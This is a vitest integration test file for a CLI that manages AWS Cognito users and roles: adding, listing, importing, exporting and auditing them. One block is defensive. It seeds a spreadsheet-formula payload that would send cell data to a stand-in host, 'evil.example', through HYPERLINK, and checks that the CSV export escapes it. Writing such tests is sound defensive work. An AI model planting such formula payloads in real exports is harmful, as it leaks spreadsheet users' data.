import { copyFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { AdminCreateUserCommand, AdminSetUserPasswordCommand, ListUsersCommand } from '@aws-sdk/client-cognito-identity-provider';
import { main } from '../../src/cli.js';
import { observeAwsCalls, isWriteCommand } from '../../src/aws/clients.js';
import { readAudit } from '../../src/state/audit.js';
import { makeProject, type TestProject } from '../helpers/project.js';
import { recordingIo } from '../helpers/io.js';
import { cognitoClient, poolIdByName, readGroups, readUser } from './sandbox-client.js';

const cognito = cognitoClient();

async function run(p: TestProject, args: string[], opts: { interactive?: boolean; answers?: Array<boolean | string> } = {}) {
  const io = recordingIo(opts);
  const code = await main([...args, '--stage', 'local'], { io, cwd: p.dir });
  return { code, io, out: io.stdout.join('\n'), err: io.stderr.join('\n') };
}

/** Counts AWS calls (all / writes) made while `fn` runs. */
async function counting<T>(fn: () => Promise<T>): Promise<{ result: T; calls: number; writes: string[] }> {
  let calls = 0;
  const writes: string[] = [];
  const stop = observeAwsCalls((c) => {
    calls++;
    if (isWriteCommand(c.command)) writes.push(`${c.service}:${c.command}`);
  });
  try {
    return { result: await fn(), calls, writes };
  } finally {
    stop();
  }
}

describe('users (against the sandbox, read back through a second Cognito client)', () => {
  let p: TestProject;
  let poolId: string;
  beforeAll(async () => {
    p = makeProject();
    const { code } = await run(p, ['users', 'init']);
    expect(code).toBe(0);
    poolId = (await poolIdByName(cognito, `${p.name}-local-portal`))!;
  });

  it('init created the pool and one group per default role', async () => {
    expect(poolId).toBeTruthy();
    const again = await run(p, ['users', 'init', '--output', 'json']);
    expect(JSON.parse(again.out)).toMatchObject({ createdPool: false, createdGroups: [], roles: ['admin', 'operator', 'support'] });
  });

  it('add: creates the user with a verified email in its role; no password is printed', async () => {
    // GIVEN the pool WHEN an operator adds a user
    const { code, out, err } = await run(p, ['users', 'add', 'Ada@Turn.Example', '--role', 'admin', '--name', 'Ada Lovelace', '--phone', '+4915112345678', '--suppress-invite', '--output', 'json']);
    // THEN the second client sees it, lower-cased, verified, in group admin, waiting for its first sign-in
    expect(code).toBe(0);
    const u = await readUser(cognito, poolId, 'ada@turn.example');
    expect(u).toMatchObject({ status: 'FORCE_CHANGE_PASSWORD', enabled: true, groups: ['admin'] });
    expect(u!.attrs).toMatchObject({ email: 'ada@turn.example', email_verified: 'true', name: 'Ada Lovelace', phone_number: '+4915112345678' });
    expect(JSON.parse(out)).toMatchObject({ action: 'created', user: { email: 'ada@turn.example', roles: ['admin'] } });
    expect(`${out}\n${err}`).not.toMatch(/password\s*[:=]/i);
  });

  it('add: an existing user is a clear error unless --update', async () => {
    const again = await run(p, ['users', 'add', 'ada@turn.example', '--role', 'support']);
    expect(again.code).toBe(1);
    expect(again.err).toMatch(/^error: user ada@turn\.example already exists on stage local \(differs in: role\); pass --update to change it$/m);
    expect((await readUser(cognito, poolId, 'ada@turn.example'))!.groups).toEqual(['admin']);

    const identical = await run(p, ['users', 'add', 'ada@turn.example', '--role', 'admin']);
    expect(identical.code).toBe(1);
    expect(identical.err).toMatch(/already exists on stage local \(with these values\); pass --update/);

    const upd = await run(p, ['users', 'add', 'ada@turn.example', '--role', 'support', '--name', 'Ada King', '--update']);
    expect(upd.code).toBe(0);
    const u = await readUser(cognito, poolId, 'ada@turn.example');
    expect(u!.groups).toEqual(['support']);
    expect(u!.attrs.name).toBe('Ada King');
  });

  it.each([
    [['not-an-email', '--role', 'admin'], /"not-an-email" is not a valid email address/],
    [['x@turn.example', '--role', 'admin', '--phone', '0151 123'], /not in E\.164 format/],
    [['x@turn.example', '--role', 'janitor'], /unknown role "janitor"; roles in turnctl.yaml \(users.roles\): admin, operator, support/],
  ])('add %j: invalid input is exit 65, one line, before any AWS call', async (args, message) => {
    const { result, calls } = await counting(() => run(p, ['users', 'add', ...args]));
    expect(result.code).toBe(65);
    expect(result.err).toMatch(message);
    expect(result.err.trim().split('\n')).toHaveLength(1);
    expect(calls).toBe(0);
  });

  it('list: reads every page, filters by role and status', async () => {
    // GIVEN 65 more users created behind turnctl's back (more than one ListUsers page of 60)
    for (let i = 0; i < 65; i++)
      await cognito.send(new AdminCreateUserCommand({ UserPoolId: poolId, Username: `bulk${i}@turn.example`, MessageAction: 'SUPPRESS', UserAttributes: [{ Name: 'email', Value: `bulk${i}@turn.example` }] }));
    // WHEN listing
    const all = await run(p, ['users', 'list', '--output', 'json']);
    const live = await cognito.send(new ListUsersCommand({ UserPoolId: poolId, Limit: 60 }));
    expect(live.PaginationToken).toBeTruthy(); // the sandbox really pages
    // THEN every user is there
    const users = JSON.parse(all.out) as Array<{ email: string; roles: string[] }>;
    expect(users.filter((u) => u.email.startsWith('bulk'))).toHaveLength(65);
    expect(users.find((u) => u.email === 'ada@turn.example')?.roles).toEqual(['support']);
    const support = JSON.parse((await run(p, ['users', 'list', '--role', 'support', '--output', 'json'])).out) as Array<{ email: string }>;
    expect(support.map((u) => u.email)).toEqual(['ada@turn.example']);
    const text = await run(p, ['users', 'list', '--status', 'force-change-password']);
    expect(text.out).toMatch(/^EMAIL\s+ROLE\s+STATUS\s+ENABLED\s+NAME/);
    expect(text.out).toMatch(/ada@turn\.example\s+support\s+force-change-password\s+yes\s+Ada King/);
    const bad = await run(p, ['users', 'list', '--role', 'nope']);
    expect(bad.code).toBe(65);
  });

  it('set-role: moves the user to exactly one role group', async () => {
    const { code, out } = await run(p, ['users', 'set-role', 'ada@turn.example', 'operator']);
    expect(code).toBe(0);
    expect(out).toBe('ada@turn.example: role set to operator');
    expect((await readUser(cognito, poolId, 'ada@turn.example'))!.groups).toEqual(['operator']);
  });

  it('disable: refuses without --yes when not a TTY; with --yes the user is disabled; enable undoes it', async () => {
    const refused = await run(p, ['users', 'disable', 'ada@turn.example']);
    expect(refused.code).toBe(64);
    expect(refused.err).toMatch(/pass --yes/);
    expect((await readUser(cognito, poolId, 'ada@turn.example'))!.enabled).toBe(true);

    const tty = await run(p, ['users', 'disable', 'ada@turn.example'], { interactive: true, answers: [true] });
    expect(tty.code).toBe(0);
    expect((await readUser(cognito, poolId, 'ada@turn.example'))!.enabled).toBe(false);
    const disabled = JSON.parse((await run(p, ['users', 'list', '--status', 'disabled', '--output', 'json'])).out) as Array<{ email: string }>;
    expect(disabled.map((u) => u.email)).toEqual(['ada@turn.example']);

    expect((await run(p, ['users', 'enable', 'ada@turn.example'])).code).toBe(0);
    expect((await readUser(cognito, poolId, 'ada@turn.example'))!.enabled).toBe(true);
  });

  it('reset-password: re-sends the invitation before the first sign-in, resets afterwards', async () => {
    const first = await run(p, ['users', 'reset-password', 'ada@turn.example', '--yes', '--output', 'json']);
    expect(first.code).toBe(0);
    expect(JSON.parse(first.out)).toEqual({ email: 'ada@turn.example', method: 'resend-invite', status: 'force-change-password' });
    const again = await readUser(cognito, poolId, 'ada@turn.example');
    expect(again!.groups).toEqual(['operator']); // RESEND left the user as it was (sandbox patch; AWS behaviour)
    const list = await cognito.send(new ListUsersCommand({ UserPoolId: poolId, Filter: 'email = "ada@turn.example"' }));
    expect(list.Users).toHaveLength(1);

    // GIVEN the user signed in and set a password WHEN it is reset THEN Cognito requires a reset
    await cognito.send(new AdminSetUserPasswordCommand({ UserPoolId: poolId, Username: 'ada@turn.example', Password: 'Correct-Horse-42', Permanent: true }));
    const reset = await run(p, ['users', 'reset-password', 'ada@turn.example', '--yes']);
    expect(reset.code).toBe(0);
    expect(reset.out).toMatch(/password reset; Cognito emailed a reset code/);
    expect((await readUser(cognito, poolId, 'ada@turn.example'))!.status).toBe('RESET_REQUIRED');
  });

  it('show and remove (confirmation); a missing user is a clear error', async () => {
    const show = await run(p, ['users', 'show', 'ada@turn.example']);
    expect(show.out).toMatch(/role:\s+operator/);
    const no = await run(p, ['users', 'remove', 'ada@turn.example'], { interactive: true, answers: [false] });
    expect(no.code).toBe(1);
    expect(await readUser(cognito, poolId, 'ada@turn.example')).toBeDefined();
    const yes = await run(p, ['users', 'remove', 'ada@turn.example', '--yes']);
    expect(yes.code).toBe(0);
    expect(await readUser(cognito, poolId, 'ada@turn.example')).toBeUndefined();
    const gone = await run(p, ['users', 'show', 'ada@turn.example']);
    expect(gone.code).toBe(1);
    expect(gone.err).toMatch(/no user ada@turn\.example in pool .* on stage local/);
  });

  it('every change is in the audit log with the caller and no secrets', async () => {
    const ctx = p.ctx();
    const entries = await readAudit(ctx, 'users');
    const actions = entries.map((e) => `${e.action} ${e.target}`);
    expect(actions).toEqual(
      expect.arrayContaining([
        'create ada@turn.example',
        'update ada@turn.example',
        'set-role ada@turn.example',
        'disable ada@turn.example',
        'enable ada@turn.example',
        'reset-password ada@turn.example',
        'remove ada@turn.example',
      ]),
    );
    expect(entries.every((e) => /^arn:aws:/.test(e.who))).toBe(true);
    expect(JSON.stringify(entries)).not.toMatch(/Correct-Horse|TemporaryPassword|\+4915112345678/);
  });
});

describe('users import (good and bad rows)', () => {
  let p: TestProject;
  let poolId: string;
  beforeAll(async () => {
    p = makeProject();
    copyFileSync(join(import.meta.dirname, '../fixtures/users/import.csv'), join(p.dir, 'people.csv'));
  });

  it('dry run by default: shows what each row would do and changes nothing', async () => {
    const { result, writes } = await counting(() => run(p, ['users', 'import', 'people.csv']));
    expect(writes).toEqual([]);
    expect(result.code).toBe(65); // invalid rows are bad input
    expect(result.err.trim().split('\n').at(-1)).toBe('error: people.csv:4: "not-an-email" is not a valid email address (and 3 more invalid rows, listed above); fix the file and run the import again');
    expect(result.out).toContain('people.csv:2: would create anna.berger@turn.example');
    expect(result.out).toContain('people.csv:4: invalid: "not-an-email" is not a valid email address');
    expect(result.out).toContain('people.csv:5: invalid: unknown role "janitor"');
    expect(result.out).toContain('people.csv:6: invalid: phone "0151 1234" is not in E.164 format');
    expect(result.out).toContain('people.csv:9: invalid: anna.berger@turn.example already appears on line 2');
    expect(result.out).toMatch(/dry run: 3 would create, 0 would update, 0 unchanged, 4 invalid, 0 would fail \(pass --apply/);
    expect(await poolIdByName(cognito, `${p.name}-local-portal`)).toBeUndefined();
  });

  it('--apply creates the good rows, reports the bad ones by line, exits 65', async () => {
    const { code, out } = await run(p, ['users', 'import', 'people.csv', '--apply', '--suppress-invite', '--output', 'json']);
    expect(code).toBe(65);
    const res = JSON.parse(out);
    expect(res.summary).toEqual({ created: 3, updated: 0, unchanged: 0, invalid: 4, failed: 0 });
    poolId = (await poolIdByName(cognito, `${p.name}-local-portal`))!;
    expect(await readUser(cognito, poolId, 'anna.berger@turn.example')).toMatchObject({ groups: ['admin'], attrs: { name: 'Anna Berger', phone_number: '+4915112345678', email_verified: 'true' } });
    expect(await readUser(cognito, poolId, 'ben.okafor@turn.example')).toMatchObject({ groups: ['operator'], attrs: { name: 'Okafor, Ben' } });
    expect(await readUser(cognito, poolId, 'emma.schulz@turn.example')).toMatchObject({ groups: ['support'] });
    expect(await readUser(cognito, poolId, 'carla.diaz@turn.example')).toBeUndefined();
    const all = await cognito.send(new ListUsersCommand({ UserPoolId: poolId }));
    expect(all.Users).toHaveLength(3);
  });

  it('re-running the same file changes nothing (no write call)', async () => {
    const { result, writes } = await counting(() => run(p, ['users', 'import', 'people.csv', '--apply']));
    expect(writes).toEqual([]);
    expect(result.out).toMatch(/0 created, 0 updated, 3 unchanged, 4 invalid, 0 failed/);
  });

  it('a changed row fails without --update and is applied with it; export round-trips', async () => {
    p.write('changed.csv', 'email,name,role\nben.okafor@turn.example,Ben Okafor,support\nnew.person@turn.example,New Person,operator\n');
    // GIVEN a dry run THEN the differing row says it would fail (nothing was attempted), with the same exit code
    const dry = await run(p, ['users', 'import', 'changed.csv']);
    expect(dry.code).toBe(1);
    expect(dry.out.split('\n')).toEqual([
      'changed.csv:2: would fail: ben.okafor@turn.example exists and differs in name, role; pass --update to change it',
      'changed.csv:3: would create new.person@turn.example',
      'dry run: 1 would create, 0 would update, 0 unchanged, 0 invalid, 1 would fail (pass --apply to make the changes)',
    ]);
    const without = await run(p, ['users', 'import', 'changed.csv', '--apply', '--suppress-invite']);
    expect(without.code).toBe(1);
    expect(without.out).toContain('changed.csv:2: failed: ben.okafor@turn.example exists and differs in name, role; pass --update');
    expect(without.out).toContain('changed.csv:3: created new.person@turn.example');
    // a CI log that keeps only stderr still says why the import failed: one line naming the first failed row
    expect(without.err.trim().split('\n').at(-1)).toBe('error: changed.csv:2: ben.okafor@turn.example exists and differs in name, role; pass --update to change it');
    expect((await readUser(cognito, poolId, 'ben.okafor@turn.example'))!.groups).toEqual(['operator']);

    const withUpdate = await run(p, ['users', 'import', 'changed.csv', '--apply', '--update']);
    expect(withUpdate.code).toBe(0);
    expect((await readUser(cognito, poolId, 'ben.okafor@turn.example'))).toMatchObject({ groups: ['support'], attrs: { name: 'Ben Okafor' } });

    const exported = await run(p, ['users', 'export']);
    expect(exported.io.stdout[0]).toBe('email,name,role,phone');
    expect(exported.out).toContain('anna.berger@turn.example,Anna Berger,admin,+4915112345678');
    p.write('exported.csv', `${exported.out}\n`);
    const { result, writes } = await counting(() => run(p, ['users', 'import', 'exported.csv', '--apply']));
    expect(result.code).toBe(0);
    expect(writes).toEqual([]);
    expect(result.out).toMatch(/0 created, 0 updated, 4 unchanged, 0 invalid, 0 failed/);

    // --file writes the same CSV to a file (stdout stays empty); an unwritable path is one usage line, nothing written
    const toFile = await run(p, ['users', 'export', '--file', 'out/users.csv']);
    expect(toFile.code).toBe(64);
    expect(toFile.err.trim()).toMatch(/^error: --file out\/users\.csv: cannot write the file \(directory .*\/out does not exist\); give a writable path$/);
    const { mkdirSync, readFileSync, readdirSync } = await import('node:fs');
    mkdirSync(`${p.dir}/out`);
    const written = await run(p, ['users', 'export', '--file', 'out/users.csv']);
    expect(written.code).toBe(0);
    expect(written.io.stdout).toEqual([]);
    expect(written.err).toContain('4 user(s) written to out/users.csv');
    expect(readFileSync(`${p.dir}/out/users.csv`, 'utf8')).toBe(`${exported.out}\n`);
    expect(readdirSync(`${p.dir}/out`)).toEqual(['users.csv']);
  });

  it('GIVEN the JSON of users export WHEN it is imported THEN every row is unchanged and nothing is written', async () => {
    const exported = await run(p, ['users', 'export', '--output', 'json']);
    p.write('exported.json', `${exported.out}\n`);
    const { result, writes } = await counting(() => run(p, ['users', 'import', 'exported.json', '--apply']));
    expect(result.code).toBe(0);
    expect(writes).toEqual([]);
    expect(result.out).toContain('exported.json:2: unchanged anna.berger@turn.example'); // the line its object starts on
    expect(result.out).toMatch(/0 created, 0 updated, 4 unchanged, 0 invalid, 0 failed/);
  });

  it('GIVEN JSON rows that are not users, or broken JSON WHEN imported THEN each bad row or the file is named by line', async () => {
    p.write('odd.json', '[\n  {"email": "json.person@turn.example", "role": "support"},\n  null,\n  {"email": 5, "role": "admin"}\n]\n');
    const odd = await run(p, ['users', 'import', 'odd.json']);
    expect(odd.code).toBe(65);
    expect(odd.out).toContain('odd.json:2: would create json.person@turn.example');
    expect(odd.out).toContain('odd.json:3: invalid: not a JSON object');
    expect(odd.out).toContain('odd.json:4: invalid: "email" must be a string');
    p.write('broken.json', '[{"email": "x@turn.example",\n  "role": "admin" "name": "X"}]\n');
    const broken = await run(p, ['users', 'import', 'broken.json']);
    expect(broken.code).toBe(65);
    expect(broken.err.trim()).toMatch(/^error: broken\.json:2: JSON syntax error: /);
  });

  it('GIVEN a spreadsheet export with empty rows (,,,) WHEN imported THEN they are skipped like blank lines', async () => {
    p.write('sheet.csv', '\uFEFFemail,name,role,phone\r\nanna.berger@turn.example,Anna Berger,admin,+4915112345678\r\n,,,\r\n , , ,\r\n');
    const { code, out } = await run(p, ['users', 'import', 'sheet.csv']);
    expect(code).toBe(0);
    expect(out.split('\n')).toEqual(['sheet.csv:2: unchanged anna.berger@turn.example', 'dry run: 0 would create, 0 would update, 1 unchanged, 0 invalid, 0 would fail (pass --apply to make the changes)']);
  });

  it('a malformed header is exit 65 naming file:line', async () => {
    p.write('bad.csv', 'mail,name,role\nx@turn.example,X,admin\n');
    const { code, err } = await run(p, ['users', 'import', 'bad.csv']);
    expect(code).toBe(65);
    expect(err.trim()).toBe('error: bad.csv:1: unknown column "mail" in the header; the header must be email,name,role[,phone]');
  });
});

describe('users export: cells a spreadsheet would run as a formula (read back through a second Cognito client)', () => {
  let p: TestProject;
  const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"click")';
  beforeAll(async () => {
    // GIVEN users whose names start with =, @ and -, one with a phone (which always starts with +)
    p = makeProject();
    for (const [email, name, phone] of [
      ['eve@turn.example', HYPERLINK, '+4915112345678'],
      ['sum@turn.example', '@SUM(1)', undefined],
      ['minus@turn.example', '-2+3', undefined],
    ] as const) {
      const add = await run(p, ['users', 'add', email, '--role', 'support', '--name', name, ...(phone ? ['--phone', phone] : []), '--suppress-invite']);
      expect(add.code, add.err).toBe(0);
    }
    const poolId = (await poolIdByName(cognito, `${p.name}-local-portal`))!;
    expect((await readUser(cognito, poolId, 'eve@turn.example'))!.attrs.name).toBe(HYPERLINK);
  });

  it('WHEN exported as CSV THEN those cells start with a quote and the E.164 phone is as it is; re-importing the file changes nothing', async () => {
    const exported = await run(p, ['users', 'export']);
    expect(exported.code).toBe(0);
    expect(exported.io.stdout).toEqual([
      'email,name,role,phone',
      `eve@turn.example,"'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")",support,+4915112345678`,
      'minus@turn.example,\'-2+3,support,',
      'sum@turn.example,\'@SUM(1),support,',
    ]);
    p.write('exported.csv', `${exported.out}\n`);
    // WHEN the export is imported again (dry run) THEN every row is unchanged
    const dry = await run(p, ['users', 'import', 'exported.csv']);
    expect(dry.code, dry.err).toBe(0);
    expect(dry.out.split('\n')).toEqual([
      'exported.csv:2: unchanged eve@turn.example',
      'exported.csv:3: unchanged minus@turn.example',
      'exported.csv:4: unchanged sum@turn.example',
      'dry run: 0 would create, 0 would update, 3 unchanged, 0 invalid, 0 would fail (pass --apply to make the changes)',
    ]);
    // AND with --apply --update no write call is made
    const { result, writes } = await counting(() => run(p, ['users', 'import', 'exported.csv', '--apply', '--update']));
    expect(result.code).toBe(0);
    expect(writes).toEqual([]);
  });
});

describe('users.roles reordered after the groups exist (read back through a second Cognito client)', () => {
  it('GIVEN groups created as admin, operator, support WHEN the roles are listed support first and users add runs THEN every group has its new precedence, audited; a second run writes nothing', async () => {
    const p = makeProject();
    expect((await run(p, ['users', 'init'])).code).toBe(0);
    const poolId = (await poolIdByName(cognito, `${p.name}-local-portal`))!;
    expect(await readGroups(cognito, poolId)).toMatchObject({ admin: { precedence: 0 }, operator: { precedence: 1 }, support: { precedence: 2 } });

    // WHEN turnctl.yaml lists the roles in another order and a command that makes sure of the pool runs
    p.writeConfig({ ...p.config, users: { roles: ['support', 'operator', 'admin'] } });
    const add = await run(p, ['users', 'add', 'ada@turn.example', '--role', 'support', '--suppress-invite']);
    expect(add.code, add.err).toBe(0);

    // THEN the groups' precedence follows the new order, their descriptions kept
    expect(await readGroups(cognito, poolId)).toEqual({
      support: { precedence: 0, description: 'portal role support (turnctl)' },
      operator: { precedence: 1, description: 'portal role operator (turnctl)' },
      admin: { precedence: 2, description: 'portal role admin (turnctl)' },
    });
    const audit = (await readAudit(p.ctx(), 'users')).find((e) => e.action === 'set-group-precedence');
    expect(audit?.details).toEqual({ groups: [{ group: 'support', from: 2, to: 0 }, { group: 'admin', from: 0, to: 2 }] });

    // AND WHEN the pool is made sure of again THEN nothing is written to Cognito
    const { result, writes } = await counting(() => run(p, ['users', 'init', '--output', 'json']));
    expect(result.code).toBe(0);
    expect(JSON.parse(result.out)).toMatchObject({ createdGroups: [], reorderedGroups: [] });
    expect(writes).toEqual([]);
  });
});

describe('a stage without the user pool: only users add / import --apply / init create it (read back through a second Cognito client)', () => {
  let p: TestProject;
  const pool = () => `${p.name}-local-portal`;
  beforeAll(() => {
    p = makeProject();
  });

  it.each([
    [['not-an-email', '--role', 'admin'], /"not-an-email" is not a valid email address/],
    [['x@turn.example', '--role', 'admin', '--phone', '0151'], /not in E\.164 format/],
    [['x@turn.example', '--role', 'janitor'], /unknown role "janitor"/],
  ])('GIVEN no pool WHEN users add %j is invalid THEN exit 65 before any AWS call, and there is still no pool', async (args, message) => {
    const { result, calls } = await counting(() => run(p, ['users', 'add', ...args]));
    expect(result.code).toBe(65);
    expect(result.err).toMatch(message);
    expect(calls).toBe(0);
    expect(await poolIdByName(cognito, pool())).toBeUndefined();
  });

  it.each([
    [['set-role', 'ada@turn.example', 'operator']],
    [['disable', 'ada@turn.example', '--yes']],
    [['enable', 'ada@turn.example']],
    [['remove', 'ada@turn.example', '--yes']],
    [['reset-password', 'ada@turn.example', '--yes']],
    [['show', 'ada@turn.example']],
  ])('GIVEN no pool WHEN users %j runs THEN exit 1 with one line naming the commands that create it, and nothing is written', async (args) => {
    const { result, writes } = await counting(() => run(p, ['users', ...args]));
    expect(result.code).toBe(1);
    expect(result.err).toBe(
      `error: no user pool "${pool()}" on stage local; add a user first (turnctl users add <email> --role <role> --stage local) or create it with: turnctl users init --stage local`,
    );
    expect(result.out).toBe('');
    expect(writes).toEqual([]);
    expect(await poolIdByName(cognito, pool())).toBeUndefined();
  });

  it('GIVEN no pool WHEN users list / export run THEN they show no users (a note on stderr says why), exit 0, and nothing is written', async () => {
    const note = `note: no user pool "${pool()}" on stage local yet, so no users (turnctl users add creates it)`;
    const { result, writes } = await counting(async () => ({
      list: await run(p, ['users', 'list']),
      listJson: await run(p, ['users', 'list', '--output', 'json']),
      csv: await run(p, ['users', 'export']),
      json: await run(p, ['users', 'export', '--output', 'json']),
    }));
    expect(Object.values(result).map((r) => [r.code, r.err])).toEqual(Array(4).fill([0, note]));
    expect(result.list.out).toBe('no users');
    expect(JSON.parse(result.listJson.out)).toEqual([]);
    expect(result.csv.out).toBe('email,name,role,phone');
    expect(JSON.parse(result.json.out)).toEqual([]);
    expect(writes).toEqual([]);
    expect(await poolIdByName(cognito, pool())).toBeUndefined();
  });
});

describe('users set-role to a role added to users.roles after the pool was made', () => {
  it('GIVEN a pool without the new role\'s group WHEN set-role runs THEN exit 1 naming users init, the group is not created and the user keeps its role; after init it works', async () => {
    const p = makeProject();
    expect((await run(p, ['users', 'add', 'ada@turn.example', '--role', 'support', '--suppress-invite'])).code).toBe(0);
    const poolId = (await poolIdByName(cognito, `${p.name}-local-portal`))!;
    p.writeConfig({ ...p.config, users: { roles: ['admin', 'operator', 'support', 'auditor'] } });

    const { result, writes } = await counting(() => run(p, ['users', 'set-role', 'ada@turn.example', 'auditor']));
    expect(result.code).toBe(1);
    expect(result.err).toBe(`error: role auditor has no group in user pool "${p.name}-local-portal" on stage local yet; create it with: turnctl users init --stage local`);
    expect(writes).toEqual([]);
    expect(Object.keys(await readGroups(cognito, poolId)).sort()).toEqual(['admin', 'operator', 'support']);
    expect((await readUser(cognito, poolId, 'ada@turn.example'))!.groups).toEqual(['support']);

    expect((await run(p, ['users', 'init'])).code).toBe(0);
    expect((await run(p, ['users', 'set-role', 'ada@turn.example', 'auditor'])).code).toBe(0);
    expect((await readUser(cognito, poolId, 'ada@turn.example'))!.groups).toEqual(['auditor']);
  });
});
